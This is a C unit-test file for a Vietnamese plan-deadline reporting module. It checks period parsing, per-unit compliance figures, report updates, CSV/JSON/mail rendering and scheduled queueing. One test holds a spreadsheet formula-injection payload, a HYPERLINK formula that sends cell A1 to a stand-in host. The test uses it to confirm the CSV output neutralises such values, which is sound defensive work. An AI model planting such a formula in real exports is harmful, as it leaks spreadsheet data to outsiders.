/*
 * Tests for report.c: periods, figures of a small May 2024 worked out by
 * hand (waived, late, overdue, undated obligations), the renderings, and
 * the scheduled report queued once on the first working day of June.
 *
 * Store: units phuocan (A) and phuochoa (B), plan kh2024 with
 *   T1 due Wed 15/05/2024 (A, B), T2 due Fri 31/05/2024 (A, B),
 *   T3 ongoing (A), T4 on event (A, B).
 * A: T1 done 15/05 (on time), T2 waived.
 * B: T1 done Mon 20/05: late by 16, 17, 20 = 3 working days;
 *    T2 open on Tue 04/06: overdue by 03/06, 04/06 = 2 working days.
 * A: due 2, on time 1, waived 1, rate 1 / (2 - 1 - 0) = 100.0, undated 2.
 * B: due 2, late 1 (3 days), overdue 1 (2 days), rate 0 / 2 = 0.0,
 *    undated 1.  Total: due 4, rate 1 / (4 - 1 - 0) = 33.3, undated 3.
 * report_update after one unit's occurrence changed: test_update and
 * test_update_rows, their figures worked out above each.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>

#include "calendar.h"
#include "config.h"
#include "date.h"
#include "directory.h"
#include "passes.h"
#include "report.h"
#include "report-mail.h"
#include "schedule.h"
#include "scratch.h"
#include "store.h"
#include "units.h"
#include "xmalloc.h"

struct fixture {
	struct store	*store;
	struct calendar	*cal;
};

struct find {
	const char	*unit;
	const char	*ref;
	int64_t		 id;
};

/* Finds an occurrence id by unit and task reference. */
static int
find_occ(const struct store_occurrence *o, void *arg)
{
	struct find	*f = arg;

	if (strcmp(o->unit_code, f->unit) == 0 && strcmp(o->ref, f->ref) == 0)
		f->id = o->id;
	return (0);
}

/* The occurrence id of a unit's task. */
static int64_t
occ(struct fixture *fx, const char *unit, const char *ref)
{
	struct store_agenda_filter	filter;
	struct find			f = { unit, ref, 0 };

	memset(&filter, 0, sizeof filter);
	filter.from = filter.to = DATE_NONE;
	store_agenda(fx->store, &filter, find_occ, &f, NULL);
	assert_true(f.id > 0);
	return (f.id);
}

/* Adds a task of the plan assigned to the units given. */
static void
add_task(struct fixture *fx, int64_t plan, const char *ref, const char *kind,
    date_t due, const char *units)
{
	struct store_task	 t;
	char			*cause = NULL, code[16];
	const char		*p;
	int64_t			 id;
	int			 changed, n;

	memset(&t, 0, sizeof t);
	t.plan_id = plan;
	t.ref = ref;
	t.title = ref;
	t.kind = kind;
	t.due = due;
	t.starts = t.ends = DATE_NONE;
	id = store_task_upsert(fx->store, &t, 1, &changed, &cause);
	assert_true(id > 0);
	for (p = units; sscanf(p, "%15s%n", code, &n) == 1; p += n)
		assert_int_equal(store_task_assign(fx->store, id,
		    store_unit_id(fx->store, code, NULL), "lead", NULL, &cause),
		    0);
}

/* Marks an occurrence. */
static void
mark(struct fixture *fx, const char *unit, const char *ref,
    const char *status, date_t day)
{
	char	*cause = NULL;

	assert_int_equal(store_occ_set_status(fx->store, occ(fx, unit, ref),
	    status, day, status[0] == 'w' ? "không phát sinh" : NULL, "test",
	    &cause), 0);
}

/* Writes the unit directory and the plan, and schedules it. */
static void
fill(struct fixture *fx)
{
	struct store_plan	 p;
	char			*cause = NULL;
	int64_t			 plan;
	int			 gen;

	scratch_units(fx->store, "[unit phuocan]\nname = UBND xã Phước An\n"
	    "email = phuocan@example.gov.vn\n\n[unit phuochoa]\nname = UBND "
	    "xã Phước Hòa\nemail = phuochoa@example.gov.vn\n");
	memset(&p, 0, sizeof p);
	p.code = "kh2024";
	p.title = "Kế hoạch cải cách hành chính năm 2024";
	p.year = 2024;
	p.starts = date_from_ymd(2024, 1, 1);
	p.ends = date_from_ymd(2024, 12, 31);
	assert_true((plan = store_plan_upsert(fx->store, &p, &gen, &cause)) > 0);
	add_task(fx, plan, "T1", "once", date_from_ymd(2024, 5, 15),
	    "phuocan phuochoa");
	add_task(fx, plan, "T2", "once", date_from_ymd(2024, 5, 31),
	    "phuocan phuochoa");
	add_task(fx, plan, "T3", "ongoing", DATE_NONE, "phuocan");
	add_task(fx, plan, "T4", "on_event", DATE_NONE, "phuocan phuochoa");
	pass_schedule(fx->store, fx->cal, CALENDAR_NEXT,
	    date_from_ymd(2024, 5, 1), date_from_ymd(2024, 12, 31), 0);
	mark(fx, "phuocan", "T1", "done", date_from_ymd(2024, 5, 15));
	mark(fx, "phuocan", "T2", "waived", DATE_NONE);
	mark(fx, "phuochoa", "T1", "done", date_from_ymd(2024, 5, 20));
}

static int
setup(void **state)
{
	struct fixture		*fx;
	struct calendar_options	 co;
	char			*path, *cause = NULL;

	fx = xcalloc(1, sizeof *fx);
	assert_int_equal(scratch_make("report"), 0);
	assert_int_equal(date_set_timezone("Asia/Ho_Chi_Minh"), 0);
	date_set_now(date_time_at(date_from_ymd(2024, 6, 4), 9, 0));
	calendar_default_options(&co);
	fx->cal = calendar_new(&co);
	xasprintf(&path, "%s/test.db", scratch_dir);
	fx->store = store_open(path, 1, 1000, &cause);
	free(path);
	assert_non_null(fx->store);
	assert_int_equal(store_begin(fx->store, &cause), 0);
	fill(fx);
	assert_int_equal(store_commit(fx->store, &cause), 0);
	*state = fx;
	return (0);
}

static int
teardown(void **state)
{
	struct fixture	*fx = *state;

	return (scratch_teardown(fx->store, fx->cal, NULL, fx));
}

static void
test_periods(void **state)
{
	struct report_period	p;

	(void)state;
	assert_int_equal(report_parse_period("2024-Q2", &p), 0);
	assert_int_equal(p.from, date_from_ymd(2024, 4, 1));
	assert_int_equal(p.to, date_from_ymd(2024, 6, 30));
	assert_string_equal(p.label, "quý II/2024");
	assert_int_equal(report_parse_period("2024-H2", &p), 0);
	assert_int_equal(p.from, date_from_ymd(2024, 7, 1));
	assert_int_equal(p.to, date_from_ymd(2024, 12, 31));
	assert_string_equal(p.label, "6 tháng cuối năm 2024");
	assert_int_equal(report_parse_period("2024-02", &p), 0);
	assert_int_equal(p.to, date_from_ymd(2024, 2, 29));
	assert_string_equal(p.label, "tháng 02/2024");
	assert_string_equal(p.key, "2024-02");
	assert_int_equal(report_parse_period("2024", &p), 0);
	assert_int_equal(p.to, date_from_ymd(2024, 12, 31));
	assert_string_equal(p.label, "năm 2024");
	assert_int_equal(report_parse_period("2024-13", &p), -1);
	assert_int_equal(report_parse_period("2024-00", &p), -1);
	assert_int_equal(report_parse_period("2024-Q5", &p), -1);
	assert_int_equal(report_parse_period("2024-H3", &p), -1);
	assert_int_equal(report_parse_period("2024-5", &p), -1);
	assert_int_equal(report_parse_period("24", &p), -1);
	assert_int_equal(report_parse_period("2024-05x", &p), -1);
}

/* Builds the May 2024 report as of Tuesday 04/06/2024. */
static void
build_may(struct fixture *fx, struct report *r, const char *plan)
{
	struct report_options	 opt;
	char			*cause = NULL;

	memset(&opt, 0, sizeof opt);
	assert_int_equal(report_parse_period("2024-05", &opt.period), 0);
	opt.plan = plan;
	opt.today = date_from_ymd(2024, 6, 4);
	assert_int_equal(report_build(fx->store, fx->cal, &opt, r, &cause), 0);
}

static void
test_figures(void **state)
{
	struct fixture		*fx = *state;
	struct report		 r;
	const struct report_row	*a, *b;

	build_may(fx, &r, NULL);
	assert_int_equal(r.n, 2);
	a = &r.rows[0];
	b = &r.rows[1];
	assert_string_equal(a->unit, "phuocan");
	assert_int_equal(a->due, 2);
	assert_int_equal(a->on_time, 1);
	assert_int_equal(a->waived, 1);
	assert_int_equal(a->rate10, 1000);
	assert_int_equal(a->undated, 2);
	assert_int_equal(a->late_avg10, -1);
	assert_string_equal(b->unit, "phuochoa");
	assert_int_equal(b->late, 1);
	assert_int_equal(b->late_days, 3);
	assert_int_equal(b->late_avg10, 30);
	assert_int_equal(b->overdue, 1);
	assert_int_equal(b->overdue_days, 2);
	assert_int_equal(b->rate10, 0);
	assert_int_equal(b->undated, 1);
	assert_int_equal(r.total.due, 4);
	assert_int_equal(r.total.rate10, 333);
	assert_int_equal(r.total.undated, 3);
	report_clear(&r);
}

/* Asserts two reports have the same rows, in the same order, and total. */
static void
assert_same_report(const struct report *a, const struct report *b)
{
	const struct report_row	*x, *y;
	size_t			 i;

	assert_int_equal(a->n, b->n);
	for (i = 0; i <= a->n; i++) {
		x = i < a->n ? &a->rows[i] : &a->total;
		y = i < b->n ? &b->rows[i] : &b->total;
		assert_string_equal(x->unit, y->unit);
		assert_string_equal(x->name, y->name);
		assert_int_equal(x->due, y->due);
		assert_int_equal(x->on_time, y->on_time);
		assert_int_equal(x->late, y->late);
		assert_int_equal(x->late_days, y->late_days);
		assert_int_equal(x->overdue, y->overdue);
		assert_int_equal(x->overdue_days, y->overdue_days);
		assert_int_equal(x->not_yet_due, y->not_yet_due);
		assert_int_equal(x->waived, y->waived);
		assert_int_equal(x->extended, y->extended);
		assert_int_equal(x->undated, y->undated);
		assert_int_equal(x->rate10, y->rate10);
		assert_int_equal(x->late_avg10, y->late_avg10);
	}
}

/* Brings a report up to date for units by code; checks it against a new one. */
static void
update_units(struct fixture *fx, struct report *r, const char *const *codes,
    size_t n, const char *period)
{
	struct report_options	 opt;
	struct report		 fresh;
	int64_t			 ids[8];
	char			*cause = NULL;
	size_t			 i;

	assert_true(n <= 8);
	for (i = 0; i < n; i++)
		ids[i] = codes[i] != NULL ? store_unit_id(fx->store, codes[i],
		    NULL) : 99999;
	assert_int_equal(report_update(fx->store, fx->cal, r, ids, n, &cause),
	    0);
	memset(&opt, 0, sizeof opt);
	assert_int_equal(report_parse_period(period, &opt.period), 0);
	opt.today = date_from_ymd(2024, 6, 4);
	assert_int_equal(report_build(fx->store, fx->cal, &opt, &fresh,
	    &cause), 0);
	assert_same_report(r, &fresh);
	report_clear(&fresh);
}

/*
 * One unit's occurrence changed: its row counted again alone.
 * B's T2 done on Fri 31/05, on time: B due 2, on time 1, late 1 (3 days),
 * overdue 0, rate 1 / 2 = 50.0, late_avg 3.0.  Total: on time 2, late 1,
 * overdue 0, waived 1, rate 2 / (4 - 1) = 66.7.
 * Then A's T1 reopened: overdue by the working days in (15/05, 04/06]:
 * 16-17, 20-24, 27-31 May, 3-4 June = 14; A rate 0 / 1 = 0.0, so B ranks
 * first.  Total: on time 1, late 1, overdue 1, rate 1 / 3 = 33.3.
 */
static void
test_update(void **state)
{
	struct fixture		*fx = *state;
	struct report		 r;
	const char		*b[] = { "phuochoa" };
	const char		*a[] = { "phuocan", NULL, "phuocan" };
	char			*cause = NULL;

	build_may(fx, &r, NULL);
	assert_int_equal(store_begin(fx->store, &cause), 0);
	mark(fx, "phuochoa", "T2", "done", date_from_ymd(2024, 5, 31));
	assert_int_equal(store_commit(fx->store, &cause), 0);
	update_units(fx, &r, b, 1, "2024-05");
	assert_int_equal(r.n, 2);
	assert_string_equal(r.rows[0].unit, "phuocan");
	assert_string_equal(r.rows[1].unit, "phuochoa");
	assert_int_equal(r.rows[1].due, 2);
	assert_int_equal(r.rows[1].on_time, 1);
	assert_int_equal(r.rows[1].late, 1);
	assert_int_equal(r.rows[1].late_days, 3);
	assert_int_equal(r.rows[1].overdue, 0);
	assert_int_equal(r.rows[1].overdue_days, 0);
	assert_int_equal(r.rows[1].rate10, 500);
	assert_int_equal(r.rows[1].late_avg10, 30);
	assert_int_equal(r.rows[1].undated, 1);
	assert_int_equal(r.total.on_time, 2);
	assert_int_equal(r.total.overdue, 0);
	assert_int_equal(r.total.rate10, 667);
	assert_int_equal(r.total.undated, 3);

	/* A unit twice and an id of no unit: A once, the other ignored. */
	assert_int_equal(store_begin(fx->store, &cause), 0);
	mark(fx, "phuocan", "T1", "open", DATE_NONE);
	assert_int_equal(store_commit(fx->store, &cause), 0);
	update_units(fx, &r, a, 3, "2024-05");
	assert_string_equal(r.rows[0].unit, "phuochoa");
	assert_string_equal(r.rows[1].unit, "phuocan");
	assert_int_equal(r.rows[1].due, 2);
	assert_int_equal(r.rows[1].on_time, 0);
	assert_int_equal(r.rows[1].overdue, 1);
	assert_int_equal(r.rows[1].overdue_days, 14);
	assert_int_equal(r.rows[1].waived, 1);
	assert_int_equal(r.rows[1].rate10, 0);
	assert_int_equal(r.rows[1].undated, 2);
	assert_int_equal(r.total.on_time, 1);
	assert_int_equal(r.total.late, 1);
	assert_int_equal(r.total.overdue, 1);
	assert_int_equal(r.total.rate10, 333);
	report_clear(&r);
}

/*
 * A unit with no undated work comes and goes: phuocson, T5 due Wed
 * 22/05 alone.  In May it is overdue by 23-24, 27-31 May, 3-4 June = 9
 * working days.  Extended to Mon 10/06: its May row goes (nothing else
 * counts it), and June gains a row: due 1, extended 1, not yet due 1,
 * no rate; June's total: due 1, not yet due 1, undated 3.
 */
static void
test_update_rows(void **state)
{
	struct fixture		*fx = *state;
	struct report		 may, june;
	struct report_options	 opt;
	struct store_actor	 who = { "test", "cli" };
	const char		*c[] = { "phuocson" };
	char			*cause = NULL;
	int64_t			 plan;

	assert_int_equal(store_begin(fx->store, &cause), 0);
	scratch_units(fx->store, "[unit phuocan]\nname = UBND xã Phước An\n"
	    "email = phuocan@example.gov.vn\n\n[unit phuochoa]\nname = UBND "
	    "xã Phước Hòa\nemail = phuochoa@example.gov.vn\n\n[unit phuocson]"
	    "\nname = UBND xã Phước Sơn\nemail = phuocson@example.gov.vn\n");
	assert_true((plan = store_plan_id(fx->store, "kh2024", NULL)) > 0);
	add_task(fx, plan, "T5", "once", date_from_ymd(2024, 5, 22),
	    "phuocson");
	pass_schedule(fx->store, fx->cal, CALENDAR_NEXT,
	    date_from_ymd(2024, 5, 1), date_from_ymd(2024, 12, 31), 0);
	assert_int_equal(store_commit(fx->store, &cause), 0);
	build_may(fx, &may, NULL);
	assert_int_equal(may.n, 3);
	assert_string_equal(may.rows[2].unit, "phuocson");
	assert_int_equal(may.rows[2].overdue_days, 9);
	memset(&opt, 0, sizeof opt);
	assert_int_equal(report_parse_period("2024-06", &opt.period), 0);
	opt.today = date_from_ymd(2024, 6, 4);
	assert_int_equal(report_build(fx->store, fx->cal, &opt, &june, &cause),
	    0);
	assert_int_equal(june.n, 2);

	assert_int_equal(store_begin(fx->store, &cause), 0);
	assert_int_equal(store_occ_extend(fx->store, occ(fx, "phuocson", "T5"),
	    date_from_ymd(2024, 6, 10), "chờ số liệu", 0, &who, &cause), 0);
	assert_int_equal(store_commit(fx->store, &cause), 0);
	update_units(fx, &may, c, 1, "2024-05");
	assert_int_equal(may.n, 2);
	assert_int_equal(may.total.due, 4);
	update_units(fx, &june, c, 1, "2024-06");
	assert_int_equal(june.n, 3);
	assert_string_equal(june.rows[2].unit, "phuocson");
	assert_string_equal(june.rows[2].name, "UBND xã Phước Sơn");
	assert_int_equal(june.rows[2].due, 1);
	assert_int_equal(june.rows[2].extended, 1);
	assert_int_equal(june.rows[2].not_yet_due, 1);
	assert_int_equal(june.rows[2].overdue, 0);
	assert_int_equal(june.rows[2].rate10, -1);
	assert_int_equal(june.total.due, 1);
	assert_int_equal(june.total.not_yet_due, 1);
	assert_int_equal(june.total.undated, 3);
	report_clear(&may);
	report_clear(&june);
}

static void
test_render(void **state)
{
	struct fixture	*fx = *state;
	struct report	 r;
	json_t		*doc, *u;
	struct report_mail m;
	char		*csv, *json, *text;

	build_may(fx, &r, "kh2024");
	csv = report_render_csv(&r);
	assert_string_equal(csv, "unit,name,due,on_time,late,late_days,"
	    "late_avg,overdue,overdue_days,not_yet_due,waived,"
	    "rate=100*on_time/(due-waived-not_yet_due),undated,extended\r\n"
	    "phuocan,UBND xã Phước An,2,1,0,0,,0,0,0,1,100.0,2,0\r\n"
	    "phuochoa,UBND xã Phước Hòa,2,0,1,3,3.0,1,2,0,0,0.0,1,0\r\n"
	    "TOTAL,Tổng cộng,4,1,1,3,3.0,1,2,0,1,33.3,3,0\r\n");
	json = report_render_json(&r);
	assert_non_null(doc = json_loads(json, 0, NULL));
	u = json_array_get(json_object_get(doc, "units"), 0);
	assert_true(json_is_null(json_object_get(u, "late_avg")));
	assert_true(json_real_value(json_object_get(json_object_get(doc,
	    "total"), "rate")) == 33.3);
	assert_string_equal(json_string_value(json_object_get(doc,
	    "plan_title")), "Kế hoạch cải cách hành chính năm 2024");
	json_decref(doc);
	text = report_render_text(&r);
	assert_non_null(strstr(text, "33,3"));
	assert_non_null(strstr(text, "Nhiệm vụ thường xuyên, theo sự kiện"));
	assert_non_null(strstr(text, "  UBND xã Phước An: 2\n"));
	report_mail_render(&r, &m);
	assert_string_equal(m.subject, "Báo cáo tiến độ thực hiện kế hoạch "
	    "kh2024 tháng 05/2024");
	assert_non_null(strstr(m.text, "Kế hoạch cải cách hành chính năm "
	    "2024"));
	assert_non_null(strstr(m.text, "bao-cao-2024-05.csv"));
	/* The mailed CSV is the one above with a BOM, for Excel. */
	assert_memory_equal(m.csv, "\xef\xbb\xbf", 3);
	assert_string_equal(m.csv + 3, csv);
	report_mail_clear(&m);
	free(text);
	free(json);
	free(csv);
	report_clear(&r);
}

/*
 * The report's CSV (deadlinectl and the mailed attachment) neutralises a
 * unit name a spreadsheet would run as a formula.
 */
static void
test_render_csv_formula(void **state)
{
	struct report		r;
	struct report_row	rows[1];
	char			*csv;

	memset(&r, 0, sizeof r);
	memset(rows, 0, sizeof rows);
	rows[0].unit = xstrdup("evil");
	rows[0].name = xstrdup("=HYPERLINK(\"http://x.invalid/?\"&A1,"
	    "\"Phòng\")");
	rows[0].late_avg10 = rows[0].rate10 = -1;
	r.rows = rows;
	r.n = 1;
	r.total.unit = xstrdup("TOTAL");
	r.total.name = xstrdup("-");
	r.total.late_avg10 = r.total.rate10 = -1;
	csv = report_render_csv(&r);
	assert_non_null(strstr(csv, "\r\nevil,\"'=HYPERLINK(\"\"http://"
	    "x.invalid/?\"\"&A1,\"\"Phòng\"\")\",0,0,0,0,,0,0,0,0,,0,0\r\n"
	    "TOTAL,'-,0,"));
	free(csv);
	free(rows[0].unit);
	free(rows[0].name);
	free(r.total.unit);
	free(r.total.name);
}

/* Counts outbox rows with a given key. */
static int
count_key(const struct store_outbox *m, void *arg)
{
	if (strcmp(m->key, "report/phuocan/2024-05/spool/"
	    "phuocan@example.gov.vn") == 0 && strstr(m->body,
	    "bao-cao-2024-05.csv") != NULL)
		(*(int *)arg)++;
	return (0);
}

static void
test_queue(void **state)
{
	struct fixture	*fx = *state;
	struct config	*cf;
	char		*cause = NULL;
	int		 queued = -1, found = 0;

	assert_non_null(cf = config_load(NULL, &cause));
	free(cf->coordinator);
	cf->coordinator = xstrdup("phuocan");
	cf->report_schedule = CONFIG_REPORT_BOTH;
	/* Saturday 01/06/2024: not yet the first working day of June. */
	assert_int_equal(report_queue_due(fx->store, cf, fx->cal,
	    date_time_at(date_from_ymd(2024, 6, 1), 23, 0), &queued, &cause),
	    0);
	assert_int_equal(queued, 0);
	/* Monday 03/06/2024, before the send time (08:00), then after. */
	assert_int_equal(report_queue_due(fx->store, cf, fx->cal,
	    date_time_at(date_from_ymd(2024, 6, 3), 7, 0), &queued, &cause),
	    0);
	assert_int_equal(queued, 0);
	assert_int_equal(report_queue_due(fx->store, cf, fx->cal,
	    date_time_at(date_from_ymd(2024, 6, 3), 9, 0), &queued, &cause),
	    0);
	assert_int_equal(queued, 1);
	assert_int_equal(report_queue_due(fx->store, cf, fx->cal,
	    date_time_at(date_from_ymd(2024, 6, 4), 9, 0), &queued, &cause),
	    0);
	assert_int_equal(queued, 0);
	store_outbox_list(fx->store, NULL, count_key, &found, NULL);
	assert_int_equal(found, 1);
	/* July: the June report and the quarter II report. */
	assert_int_equal(report_queue_due(fx->store, cf, fx->cal,
	    date_time_at(date_from_ymd(2024, 7, 1), 9, 0), &queued, &cause),
	    0);
	assert_int_equal(queued, 2);
	free(cf->coordinator);
	cf->coordinator = xstrdup("nobody");
	assert_int_equal(report_queue_due(fx->store, cf, fx->cal,
	    date_time_at(date_from_ymd(2024, 8, 1), 9, 0), &queued, &cause),
	    -1);
	assert_non_null(strstr(cause, "nobody"));
	free(cause);
	config_free(cf);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_periods),
		cmocka_unit_test_setup_teardown(test_figures, setup, teardown),
		cmocka_unit_test_setup_teardown(test_update, setup, teardown),
		cmocka_unit_test_setup_teardown(test_update_rows, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_render, setup, teardown),
		cmocka_unit_test(test_render_csv_formula),
		cmocka_unit_test_setup_teardown(test_queue, setup, teardown),
	};

	return (cmocka_run_group_tests(tests, NULL, NULL));
}
